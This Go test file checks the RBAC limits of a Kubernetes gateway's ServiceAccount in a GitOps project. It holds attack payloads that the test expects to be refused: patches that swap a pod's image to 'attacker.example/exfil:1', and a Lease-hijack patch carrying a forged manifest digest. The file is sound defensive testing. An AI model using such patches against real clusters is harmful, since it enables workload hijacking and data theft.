package redteam

import (
	"context"
	"fmt"
	"os/exec"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/reversi-gitops/reversi/api/v1alpha1"
	"github.com/reversi-gitops/reversi/internal/podrun"
	"github.com/reversi-gitops/reversi/pkg/bundle"
)

// testGatewayRightsAreItsOwn (issue 17, "the gateway's rights are only its own"): the
// gateway's ServiceAccount had `pods get, patch` without names, so it could swap the image of
// any pod in its namespace. Now its Role holds exactly the rules listed here; it reports the
// digest it serves on the Lease of its pod's name (created by the controller), and the
// ReversiGateway's status is built from that Lease alone: a digest written on the Pod counts
// for nothing.
func (w *world) testGatewayRightsAreItsOwn(t *testing.T) {
	sa := "system:serviceaccount:" + ns + ":" + payGW + "-gateway"
	pod := w.pay.pod.Name

	// (a) kubectl auth can-i, as the API server's authorizer answers it.
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"patch", "pods"}, "no"},
		{[]string{"get", "pods"}, "no"},
		{[]string{"patch", "pods/" + pod}, "no"},
		{[]string{"patch", "leases.coordination.k8s.io"}, "no"},              // no Lease but its pods'
		{[]string{"create", "leases.coordination.k8s.io"}, "no"},             // the controller makes them
		{[]string{"patch", "leases.coordination.k8s.io/" + pod}, "yes"},      // its pod's report
		{[]string{"update", "leases.coordination.k8s.io/" + pod}, "no"},      // patch only
		{[]string{"patch", "leases.coordination.k8s.io/payments-api"}, "no"}, // another pod's
		{[]string{"get", "configmaps/" + payGW + "-manifests"}, "yes"},       // its rendering
		{[]string{"get", "configmaps/" + memoryReg + "-manifests"}, "no"},    // not the registry's
		{[]string{"patch", "deployments.apps/" + payGW + "-gateway"}, "no"},  // nor its Deployment
		{[]string{"create", "pods"}, "no"},
	} {
		args := append(append([]string{"--kubeconfig", w.admin, "auth", "can-i"}, c.args...), "-n", ns, "--as", sa)
		out, _ := exec.CommandContext(w.ctx, w.env.Kubectl(), args...).CombinedOutput()
		if got := strings.TrimSpace(string(out)); got != c.want {
			t.Errorf("kubectl auth can-i %s --as %s: %q, want %s", strings.Join(c.args, " "), sa, got, c.want)
		}
	}

	// (b) The rendered Role, rule for rule.
	if n := w.configMap(t, payGW+"-manifests").Data[bundle.KeyShards]; n != "1" {
		t.Fatalf("the gateway's rendering has %q shards; this test lists one", n)
	}
	var role rbacv1.Role
	must(t, w.k8s.Get(w.ctx, types.NamespacedName{Namespace: ns, Name: payGW + "-gateway"}, &role))
	want := []rbacv1.PolicyRule{
		{APIGroups: []string{""}, Resources: []string{"configmaps"}, ResourceNames: []string{payGW + "-config", payGW + "-manifests"}, Verbs: []string{"get", "list", "watch"}},
		{APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: []string{"manifest-keys"}, Verbs: []string{"get", "list", "watch"}},
		{APIGroups: []string{"coordination.k8s.io"}, Resources: []string{"leases"}, ResourceNames: []string{pod}, Verbs: []string{"patch"}},
		{APIGroups: []string{"reversi.dev"}, Resources: []string{"approvalrequests"}, Verbs: []string{"get", "list", "watch", "create", "patch"}},
		{APIGroups: []string{"reversi.dev"}, Resources: []string{"reversiruns"}, Verbs: []string{"get", "list", "watch", "create"}},
		{APIGroups: []string{"reversi.dev"}, Resources: []string{"reversiruns/status"}, Verbs: []string{"get", "update", "patch"}},
		{APIGroups: []string{"reversi.dev"}, Resources: []string{"approvals"}, Verbs: []string{"get", "list", "watch"}},
		{APIGroups: []string{"events.k8s.io"}, Resources: []string{"events"}, Verbs: []string{"create", "patch"}},
	}
	if !reflect.DeepEqual(role.Rules, want) {
		t.Errorf("the gateway's Role:\n%s\nwant exactly\n%s", rulesText(role.Rules), rulesText(want))
	}

	// (c) The attack, as the gateway's ServiceAccount: another team's pod, another pod's Lease,
	// a leader-election Lease.
	must(t, w.k8s.Create(w.ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "payments-sa"}}))
	victim := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "payments-api", Labels: map[string]string{"app": "payments"}},
		Spec: corev1.PodSpec{ServiceAccountName: "payments-sa", Containers: []corev1.Container{{Name: "api", Image: "registry.internal/payments:1"}}}}
	holder := "payments-api"
	victimLease := &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "payments-api"},
		Spec: coordinationv1.LeaseSpec{HolderIdentity: &holder}}
	leader := "payments-controller-7d9f"
	election := &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "payments-controller-leader"},
		Spec: coordinationv1.LeaseSpec{HolderIdentity: &leader, LeaseDurationSeconds: ptr.To[int32](15)}}
	for _, o := range []client.Object{victim, victimLease, election} {
		must(t, w.k8s.Create(w.ctx, o))
	}
	t.Cleanup(func() {
		ctx := context.WithoutCancel(w.ctx)
		for _, o := range []client.Object{victim, victimLease, election, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "payments-sa"}}} {
			_ = w.k8s.Delete(ctx, o)
		}
	})
	imp := rest.CopyConfig(w.env.Config)
	imp.Impersonate = rest.ImpersonationConfig{UserName: sa}
	gw := kubernetes.NewForConfigOrDie(imp)
	swap := []byte(`{"spec":{"containers":[{"name":"api","image":"attacker.example/exfil:1"}]}}`)
	if _, err := gw.CoreV1().Pods(ns).Patch(w.ctx, victim.Name, types.StrategicMergePatchType, swap, metav1.PatchOptions{}); !apierrors.IsForbidden(err) {
		t.Errorf("ATTACK: the gateway's ServiceAccount patched the image of pod %s (ServiceAccount payments-sa): %v, want Forbidden", victim.Name, err)
	}
	if _, err := gw.CoreV1().Pods(ns).Patch(w.ctx, pod, types.StrategicMergePatchType, []byte(`{"spec":{"containers":[{"name":"gateway","image":"attacker.example/exfil:1"}]}}`), metav1.PatchOptions{}); !apierrors.IsForbidden(err) {
		t.Errorf("ATTACK: the gateway's ServiceAccount patched its own pod %s: %v, want Forbidden", pod, err)
	}
	if _, err := gw.CoreV1().Pods(ns).Get(w.ctx, victim.Name, metav1.GetOptions{}); !apierrors.IsForbidden(err) {
		t.Errorf("the gateway's ServiceAccount read pod %s: %v, want Forbidden", victim.Name, err)
	}
	steal := []byte(`{"spec":{"holderIdentity":"` + pod + `"},"metadata":{"annotations":{"reversi.dev/manifest-digest":"sha256:forged"}}}`)
	for _, l := range []*coordinationv1.Lease{victimLease, election} {
		if _, err := gw.CoordinationV1().Leases(ns).Patch(w.ctx, l.Name, types.MergePatchType, steal, metav1.PatchOptions{}); !apierrors.IsForbidden(err) {
			t.Errorf("ATTACK: the gateway's ServiceAccount patched Lease %s: %v, want Forbidden", l.Name, err)
		}
	}
	if _, err := gw.CoordinationV1().Leases(ns).Create(w.ctx, &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Name: payGW + "-gateway-1"}}, metav1.CreateOptions{}); !apierrors.IsForbidden(err) {
		t.Errorf("the gateway's ServiceAccount created a Lease: %v, want Forbidden", err)
	}
	// Its own pod's Lease: allowed (a dry run, so the report it wrote stays).
	probe := []byte(`{"metadata":{"annotations":{"redteam/probe":"1"}}}`)
	if got, err := gw.CoordinationV1().Leases(ns).Patch(w.ctx, pod, types.MergePatchType, probe, metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}); err != nil || got.Annotations["redteam/probe"] != "1" {
		t.Errorf("the gateway's ServiceAccount cannot patch its own pod's Lease %s: %v", pod, err)
	}
	var after corev1.Pod
	must(t, w.k8s.Get(w.ctx, types.NamespacedName{Namespace: ns, Name: victim.Name}, &after))
	if img := after.Spec.Containers[0].Image; img != "registry.internal/payments:1" {
		t.Errorf("ATTACK: pod %s now runs %s", victim.Name, img)
	}
	for _, l := range []*coordinationv1.Lease{victimLease, election} {
		var got coordinationv1.Lease
		must(t, w.k8s.Get(w.ctx, types.NamespacedName{Namespace: ns, Name: l.Name}, &got))
		if *got.Spec.HolderIdentity != *l.Spec.HolderIdentity || len(got.Annotations) != 0 {
			t.Errorf("ATTACK: Lease %s was written: holder %s, annotations %v", l.Name, *got.Spec.HolderIdentity, got.Annotations)
		}
	}
	// Neither a pod of another ServiceAccount nor another team's Lease is a gateway pod's.
	if slices.Contains(w.roleLeases(t), victim.Name) {
		t.Errorf("the Role names the Lease of pod %s, which does not run as the gateway's ServiceAccount", victim.Name)
	}

	// (d) The status comes from the pod's Lease, which the gateway wrote (holder and renewal
	// included); a digest written on the Pod changes nothing.
	var lease coordinationv1.Lease
	must(t, w.k8s.Get(w.ctx, types.NamespacedName{Namespace: ns, Name: pod}, &lease))
	g := w.reversiGateway(t, payGW)
	desired := g.Status.Manifests.DesiredRevision
	if lease.Annotations[v1alpha1.AnnotationManifestDigest] != desired || lease.Spec.HolderIdentity == nil || *lease.Spec.HolderIdentity != pod ||
		lease.Spec.RenewTime == nil || !metav1.IsControlledBy(&lease, g) {
		t.Errorf("the pod's Lease: annotations %v, spec %+v, owners %v; want the desired digest %s held by %s, controlled by the ReversiGateway",
			lease.Annotations, lease.Spec, lease.OwnerReferences, desired, pod)
	}
	w.wantManifestsStatus(t, 1, nil, "with the pod's report on its Lease")
	// Someone with pods patch writes another digest on the Pod: the status does not move.
	w.annotate(t, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: pod}}, map[string]any{v1alpha1.AnnotationManifestDigest: "sha256:forged"})
	defer w.annotate(t, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: pod}}, map[string]any{v1alpha1.AnnotationManifestDigest: nil})
	w.keepsManifestsStatus(t, 1, nil, "a digest forged on the Pod")
	// The Lease says another digest: that counts. Then the desired digest forged on the Pod
	// does not make the pod count as loaded.
	w.patchLeaseAnnotations(t, pod, map[string]any{v1alpha1.AnnotationManifestDigest: "sha256:stale"})
	defer w.patchLeaseAnnotations(t, pod, map[string]any{v1alpha1.AnnotationManifestDigest: desired})
	w.wantManifestsStatus(t, 0, []string{pod + "=sha256:stale"}, "with another digest on the pod's Lease")
	w.annotate(t, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: pod}}, map[string]any{v1alpha1.AnnotationManifestDigest: desired})
	w.keepsManifestsStatus(t, 0, []string{pod + "=sha256:stale"}, "the desired digest forged on the Pod")
	w.patchLeaseAnnotations(t, pod, map[string]any{v1alpha1.AnnotationManifestDigest: desired})
	w.wantManifestsStatus(t, 1, nil, "with the pod's report restored")
}

// roleLeases are the Lease names the gateway's Role names.
func (w *world) roleLeases(t testing.TB) []string {
	t.Helper()
	var role rbacv1.Role
	must(t, w.k8s.Get(w.ctx, types.NamespacedName{Namespace: ns, Name: payGW + "-gateway"}, &role))
	for _, r := range role.Rules {
		if slices.Contains(r.Resources, "leases") {
			return r.ResourceNames
		}
	}
	return nil
}

// manifestsStatus says whether the gateway's status.manifests counts loaded pods and names
// other as the other digests ("" when it does), and what it says.
func (w *world) manifestsStatus(t testing.TB, loaded int32, other []string) (string, bool) {
	t.Helper()
	g := w.reversiGateway(t, payGW)
	m := g.Status.Manifests
	if m == nil {
		return "no status.manifests", false
	}
	got := fmt.Sprintf("loadedReplicas %d, otherDigests %q", m.LoadedReplicas, m.OtherDigests)
	return got, m.LoadedReplicas == loaded && slices.Equal(m.OtherDigests, other)
}

// wantManifestsStatus waits for status.manifests to count loaded pods and name other.
func (w *world) wantManifestsStatus(t testing.TB, loaded int32, other []string, when string) {
	t.Helper()
	if err := podrun.Poll(w.ctx, 15*time.Second, func() string {
		if got, ok := w.manifestsStatus(t, loaded, other); !ok {
			return got
		}
		return ""
	}); err != nil {
		t.Errorf("%s the ReversiGateway's status is not loadedReplicas %d, otherDigests %q: %v", when, loaded, other, err)
	}
}

// keepsManifestsStatus checks for a few seconds (the controller reconciles on every pod
// change within milliseconds) that status.manifests stays as wantManifestsStatus left it.
func (w *world) keepsManifestsStatus(t testing.TB, loaded int32, other []string, after string) {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if got, ok := w.manifestsStatus(t, loaded, other); !ok {
			t.Errorf("ATTACK: after %s the ReversiGateway's status moved to %s (want loadedReplicas %d, otherDigests %q)", after, got, loaded, other)
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func rulesText(rules []rbacv1.PolicyRule) string {
	var b strings.Builder
	for _, r := range rules {
		fmt.Fprintf(&b, "  %v %v names %v verbs %v\n", r.APIGroups, r.Resources, r.ResourceNames, r.Verbs)
	}
	return b.String()
}
